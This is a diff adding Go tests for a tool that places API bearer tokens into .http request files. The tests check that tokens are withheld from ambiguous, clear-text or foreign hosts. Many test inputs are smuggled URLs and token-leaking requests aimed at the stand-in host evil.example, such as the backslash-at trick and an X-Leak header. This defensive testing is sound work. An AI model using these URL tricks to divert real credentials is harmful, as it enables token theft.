@@ -1,0 +1,267 @@
+package httpfile
+
+import (
+	"strings"
+	"testing"
+)
+
+const tenantHost = "mysub.eu10.doc.cloud.sap"
+
+// differently is the reason for a URL that clients could read apart.
+const differently = "HTTP clients read this URL's host differently (user info, escapes, white space, a short IPv4 form, IDNA): write it as https://" + doxHost + "/…"
+
+// TestWhereTheTokenGoes: where the token goes, request by request (issue 12: the
+// URL read as clients read it, https only, the tenant UI host).
+func TestWhereTheTokenGoes(t *testing.T) {
+	dox := "/document-information-extraction/v1/capabilities"
+	tests := []struct {
+		url, reason string // reason "" means the request gets the token
+	}{
+		{"https://" + doxHost + dox, ""},
+		{"https://" + strings.ToUpper(doxHost) + ":443" + dox, ""},
+		// REST Client reads URLs with Node's legacy url.parse, JetBrains with
+		// a parser of its own: only a plainly written host gets the token.
+		{"https://user:pa$$@" + doxHost + dox, differently},
+		// httpyac, REST Client and browsers read "\" as the end of the
+		// authority: this request goes to evil.example.
+		{`https://evil.example\@` + doxHost + dox, "foreign host evil.example"},
+		{`http://evil.example\@` + doxHost + dox, "foreign host evil.example"},
+		{"https://evil.example%5C@" + doxHost + dox, differently},
+		{"ht\ttps://" + doxHost + dox, differently},
+		{"https://evil.example#@" + doxHost + dox, "foreign host evil.example"},
+		{"https://evil.example?@" + doxHost + dox, "foreign host evil.example"},
+		{"https://ev\til.example/@" + doxHost + dox, "foreign host evil.example"},
+		{"https://" + doxHost + ".evil.example" + dox, "foreign host " + doxHost + ".evil.example"},
+		// Clear text: http:// and no scheme at all (REST Client and
+		// JetBrains put http:// in front of it).
+		{"http://" + doxHost + dox, "the URL is http://, the token would travel in clear text: write https://"},
+		{doxHost + dox, noScheme},
+		{doxHost + ":443" + dox, noScheme},
+		{"wss://" + doxHost + dox, "the URL is wss://, the token goes only over https"},
+		// The key's Swagger UI host (tenantuiurl) is its own too.
+		{"https://" + tenantHost + "/swagger/index.html", ""},
+		{"http://" + tenantHost + "/swagger/index.html", "the URL is http://, the token would travel in clear text: write https://"},
+		{"https://" + doxHost + ":8443" + dox, "foreign host " + doxHost + ":8443"},
+		{"https://ex%00.com/", "the URL is not one an HTTP client can send"},
+	}
+	for _, tt := range tests {
+		src := "GET " + tt.url + "\n"
+		plan := PlanEdits([]byte(src), Options{Token: tokenA, APIHost: doxHost, TenantHost: tenantHost, Line: -1})
+		got := ""
+		if len(plan.Skipped) > 0 {
+			got = plan.Skipped[0].Reason
+		}
+		if got != tt.reason || (got == "") != (len(plan.Edits) == 1) {
+			t.Errorf("%q: skipped %q with %d edits, want %q", tt.url, got, len(plan.Edits), tt.reason)
+		}
+	}
+}
+
+// TestContinuationLinesThatMoveTheHost: JetBrains joins an indented line
+// to the URL; httpyac sends an indented "@host/…" line, and the header
+// lines below it, as the body to the request line's host (seen with a
+// listener). A request whose host depends on the reading gets no token.
+func TestContinuationLinesThatMoveTheHost(t *testing.T) {
+	dox := "/document-information-extraction/v1/capabilities"
+	tests := []struct{ src, reason string }{
+		{"GET https://evil.example\n    @" + doxHost + dox + "\nAuthorization: Bearer x\n",
+			"a continuation line changes the URL's host: httpyac sends this request to evil.example, JetBrains to " + doxHost},
+		{"GET https://evil.example\n&@" + doxHost + dox + "\n",
+			"a continuation line changes the URL's host: httpyac sends this request to evil.example, JetBrains to " + doxHost},
+		{"GET https://" + doxHost + "/document-information-extraction/v1/\n    document/jobs\n    ?clientId=default\n", ""},
+		{"GET https://{{host}}/document-information-extraction/v1/document/jobs\n    ?clientId=default\n", ""},
+	}
+	for _, tt := range tests {
+		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Line: -1})
+		got := ""
+		if len(plan.Skipped) > 0 {
+			got = plan.Skipped[0].Reason
+		}
+		if got != tt.reason {
+			t.Errorf("%q: skipped %q, want %q", tt.src, got, tt.reason)
+		}
+	}
+}
+
+// TestLoopbackOverHTTP: a key whose API runs on this machine (the tests'
+// UAA emulator, a local mock) takes the token over http; another host does
+// not.
+func TestLoopbackOverHTTP(t *testing.T) {
+	tests := map[string]struct {
+		api, url string
+		ok       bool
+	}{
+		"ipv4":          {"127.0.0.1:8080", "http://127.0.0.1:8080/x", true},
+		"short ipv4":    {"127.0.0.1:8080", "http://127.1:8080/x", false},
+		"hex ipv4":      {"127.0.0.1:8080", "http://0x7f.1:8080/x", false},
+		"integer ipv4":  {"127.0.0.1:8080", "http://2130706433:8080/x", false},
+		"127/8":         {"127.0.0.2:8080", "http://127.0.0.2:8080/x", true},
+		"ipv6":          {"[::1]:8080", "http://[0:0::1]:8080/x", true},
+		"localhost":     {"localhost:8080", "http://LOCALHOST:8080/x", true},
+		"other port":    {"127.0.0.1:8080", "http://127.0.0.1:9090/x", false},
+		"lan":           {"10.0.0.1:8080", "http://10.0.0.1:8080/x", false},
+		"localhost.com": {"localhost.example.com", "http://localhost.example.com/x", false},
+		"no scheme":     {"127.0.0.1:8080", "127.0.0.1:8080/x", false},
+	}
+	for name, tt := range tests {
+		plan := PlanEdits([]byte("GET "+tt.url+"\n"), Options{Token: tokenA, APIHost: tt.api, Line: -1})
+		if got := len(plan.Edits) == 1; got != tt.ok {
+			t.Errorf("%s: %s with API host %s gets the token: %v, want %v (%v)", name, tt.url, tt.api, got, tt.ok, plan.Skipped)
+		}
+		// The short IPv4 forms are this machine, so not clear text to
+		// somebody else; they are refused as written ambiguously.
+		if !tt.ok && strings.HasSuffix(name, "ipv4") && (len(plan.Skipped) != 1 || !strings.HasPrefix(plan.Skipped[0].Reason, "HTTP clients read this URL's host differently")) {
+			t.Errorf("%s: %v", name, plan.Skipped)
+		}
+	}
+}
+
+// TestRequestAllowedMatchesPlan: hover and code lens ask Request.Allowed;
+// it must say what PlanEdits does.
+func TestRequestAllowedMatchesPlan(t *testing.T) {
+	src := "GET https://evil.example\\@" + doxHost + "/x\n###\nGET https://" + tenantHost + "/swagger\n###\nGET http://" + doxHost + "/x\n"
+	opts := Options{Token: tokenA, APIHost: doxHost, TenantHost: tenantHost, Line: -1}
+	doc := Parse([]byte(src))
+	plan := PlanEdits([]byte(src), opts)
+	skipped := map[int]string{}
+	for _, s := range plan.Skipped {
+		skipped[s.Line] = s.Reason
+	}
+	for _, r := range doc.Requests {
+		ok, reason := r.Allowed(opts)
+		if ok != (skipped[r.Line] == "") || reason != skipped[r.Line] {
+			t.Errorf("line %d: Allowed says %v %q, PlanEdits skipped %q", r.Line, ok, reason, skipped[r.Line])
+		}
+	}
+}
+
+// TestEnvironmentHosts: a host that comes from an environment file is
+// decided per environment.
+func TestEnvironmentHosts(t *testing.T) {
+	src := "GET https://{{host}}/document-information-extraction/v1/capabilities\n"
+	envs := map[string]map[string]string{
+		"dev":     {"host": doxHost},
+		"evil":    {"host": "evil.example"},
+		"$shared": {"other": "x"},
+	}
+	tests := []struct {
+		name   string
+		envs   map[string]map[string]string
+		env    string
+		reason string
+	}{
+		{"no environment file: the path rule", nil, "", ""},
+		{"the chosen environment is the key's", envs, "dev", ""},
+		{"the chosen environment is not", envs, "evil", "with environment evil: foreign host evil.example"},
+		{"unknown environment: every one must agree", envs, "", "with environment evil: foreign host evil.example"},
+		{"unknown environment, all agree", map[string]map[string]string{"dev": {"host": doxHost}, "prod": {"host": doxHost + ":443"}}, "", ""},
+		{"from $shared", map[string]map[string]string{"$shared": {"host": "evil.example"}, "dev": {}}, "dev", "with environment dev: foreign host evil.example"},
+		{"a value with a backslash", map[string]map[string]string{"dev": {"host": `evil.example\@` + doxHost}}, "dev", "with environment dev: foreign host evil.example"},
+		{"a value with a slash", map[string]map[string]string{"dev": {"host": "evil.example/"}}, "", "with environment dev: foreign host evil.example"},
+		{"defined nowhere: the path rule", map[string]map[string]string{"dev": {"x": "y"}}, "", ""},
+	}
+	for _, tt := range tests {
+		plan := PlanEdits([]byte(src), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: tt.envs, Environment: tt.env})
+		got := ""
+		if len(plan.Skipped) > 0 {
+			got = plan.Skipped[0].Reason
+		}
+		if got != tt.reason {
+			t.Errorf("%s: skipped %q, want %q", tt.name, got, tt.reason)
+		}
+	}
+	// A .env file's variables: {{$dotenv HOST}} (REST Client, httpyac) and
+	// the plain {{HOST}} httpyac also reads from it.
+	dotenv := map[string]map[string]string{DotenvEnv: {"HOST": "evil.example"}}
+	for _, u := range []string{"https://{{$dotenv HOST}}/document-information-extraction/v1/x", "https://{{HOST}}/document-information-extraction/v1/x"} {
+		plan := PlanEdits([]byte("GET "+u+"\n"), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: dotenv})
+		if len(plan.Skipped) != 1 || plan.Skipped[0].Reason != "with the environment files' variables: foreign host evil.example" {
+			t.Errorf("%s with .env: %v", u, plan.Skipped)
+		}
+	}
+	withDotenv := map[string]map[string]string{"dev": {}, DotenvEnv: {"HOST": doxHost}}
+	if plan := PlanEdits([]byte("GET https://{{$dotenv HOST}}/x\n"), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: withDotenv}); len(plan.Skipped) != 0 {
+		t.Errorf("the key's host from .env: %v", plan.Skipped)
+	}
+
+	// A scheme from the environment counts too.
+	plan := PlanEdits([]byte("GET {{base}}/document-information-extraction/v1/x\n"), Options{Token: tokenA, APIHost: doxHost, Line: -1,
+		Environments: map[string]map[string]string{"dev": {"base": "http://" + doxHost}}})
+	if len(plan.Skipped) != 1 || !strings.Contains(plan.Skipped[0].Reason, "clear text") {
+		t.Errorf("http:// from the environment: %v", plan.Skipped)
+	}
+}
+
+// TestEnvUseFollowsTheTaint: in envFile mode the environment file never
+// gets the token when any request to another host references its
+// variable: directly, through file variables, through environment
+// variables, or (.env) as {{$dotenv doxToken}} or the plain {{doxToken}}
+// that httpyac also reads from .env.
+func TestEnvUseFollowsTheTaint(t *testing.T) {
+	dox := "GET https://" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{doxToken}}\n"
+	doxDotenv := "GET https://" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{$dotenv doxToken}}\n"
+	envs := map[string]map[string]string{"dev": {"relay": "Bearer {{doxToken}}"}}
+	tests := []struct {
+		name    string
+		src     string
+		dotenv  bool
+		envs    map[string]map[string]string
+		blocked string
+	}{
+		{"alone", dox, false, nil, ""},
+		{"a foreign request sends it", dox + "###\nGET https://evil.example/\nAuthorization: Bearer {{doxToken}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"in a foreign body", dox + "###\nPOST https://evil.example/\n\n{\"t\": \"{{doxToken}}\"}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"through a file variable", "@wrapped = x-{{doxToken}}\n" + dox + "###\nGET https://evil.example/?q={{wrapped}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"through an environment variable", dox + "###\nGET https://evil.example/\nAuthorization: {{relay}}\n", false, envs,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"the \\@ trick", dox + "###\nGET https://evil.example\\@" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"over http", dox + "###\nGET http://" + doxHost + "/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to http://" + doxHost},
+		{"dotenv, $dotenv form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{$dotenv doxToken}}\n", true, nil,
+			"token variable {{$dotenv doxToken}} is also sent to evil.example"},
+		{"dotenv, httpyac's plain form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{doxToken}}\n", true, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"json, a .env reference elsewhere", dox + "###\nGET https://evil.example/\nX-Other: {{$dotenv doxToken}}\n", false, nil, ""},
+	}
+	for _, tt := range tests {
+		opts := Options{APIHost: doxHost, Dotenv: tt.dotenv, Environments: tt.envs}
+		headers, blocked := EnvUse([]byte(tt.src), opts)
+		if len(headers) != 1 || headers[0].Header.Name != "Authorization" || blocked != tt.blocked {
+			t.Errorf("%s: %d headers, blocked %q, want 1 and %q", tt.name, len(headers), blocked, tt.blocked)
+		}
+		// PlanEdits agrees: the DOX request is skipped for the same reason.
+		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Mode: ModeEnvFile, Dotenv: tt.dotenv, Environments: tt.envs, Line: headersLine(tt.src)})
+		if tt.blocked != "" && (len(plan.Skipped) != 1 || plan.Skipped[0].Reason != tt.blocked) {
+			t.Errorf("%s: PlanEdits skipped %v, want %q", tt.name, plan.Skipped, tt.blocked)
+		}
+	}
+}
+
+// TestBearer is the one reading of an Authorization value that the other
+// packages use.
+func TestBearer(t *testing.T) {
+	tests := []struct{ value, cred, ref string }{
+		{"Bearer abc.def", "abc.def", ""},
+		{"bearer   {{doxToken}} ", "{{doxToken}}", "doxToken"},
+		{"Bearer {{ $dotenv   doxToken }}", "{{ $dotenv   doxToken }}", "$dotenv doxToken"},
+		{"Bearer x{{doxToken}}", "x{{doxToken}}", ""},
+	}
+	for _, tt := range tests {
+		cred, ref, ok := Bearer(tt.value)
+		if !ok || cred != tt.cred || ref != tt.ref {
+			t.Errorf("Bearer(%q) = %q %q %v, want %q %q", tt.value, cred, ref, ok, tt.cred, tt.ref)
+		}
+	}
+	if _, _, ok := Bearer("Basic dXNlcjpwYXNz"); ok {
+		t.Error("Basic read as Bearer")
+	}
+}
+
+// headersLine is the line of the first request in src.
+func headersLine(src string) int {
+	return Parse([]byte(src)).Requests[0].Line
+}
